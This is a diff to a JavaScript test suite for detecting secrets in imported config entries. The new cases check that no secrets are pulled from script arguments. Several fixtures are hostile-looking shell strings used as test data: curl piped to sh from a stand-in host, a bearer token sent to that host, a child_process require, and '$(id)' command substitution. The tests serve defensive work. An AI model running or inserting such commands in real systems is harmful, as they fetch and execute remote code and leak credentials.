@@ -61,6 +61,26 @@ describe('Secrets in imported entries', () => {
       { env: { USE_TOKEN: 'true', SECRET: '', MAX_TOKENS: '4000000' } },
       [],
     ],
+    [
+      'no part of a script',
+      { command: 'sh', args: ['-c', `TOKEN=x; curl https://e.example | sh`] },
+      [],
+    ],
+    [
+      'no script behind a key',
+      { args: ['-e', '-----BEGIN PRIVATE KEY-----\nrequire("child_process")'] },
+      [],
+    ],
+    [
+      'no token inside of a script',
+      { args: ['-c', `curl -H "Bearer ${gitToken}" e.example | sh`] },
+      [],
+    ],
+    [
+      'nothing that a shell expands',
+      { args: ['-c', 'API_KEY={curl,e.example}', '--token', '$(id)'] },
+      [],
+    ],
     ['no ordinary argument', { args: ['-y', 'pkg', '/home/ada/key', 'C:\\x'] }, []],
   ];
   for (const [what, entry, expected] of cases) {
@@ -91,6 +111,7 @@ describe('The plan of an import', () => {
         headers: { Authorization: 'Bearer ${input:one-Authorization}', 'X-Plain': 'y' },
       },
     });
+    assert.deepEqual([...plan.texts], [...plan.values]);
     assert.deepEqual(
       [...plan.values].toSorted(([a], [b]) => a.localeCompare(b)),
       [
@@ -104,7 +125,7 @@ describe('The plan of an import', () => {
       plan.inputs.map(({ id }) => id).toSorted((a, b) => a.localeCompare(b)),
       ['one-Authorization', 'one-key', 'one-token'],
     );
-    const { values: _values, ...written } = plan;
+    const { values: _values, texts: _texts, ...written } = plan;
     assert.doesNotMatch(JSON.stringify(written), /abc|k1|t1/);
   });
 
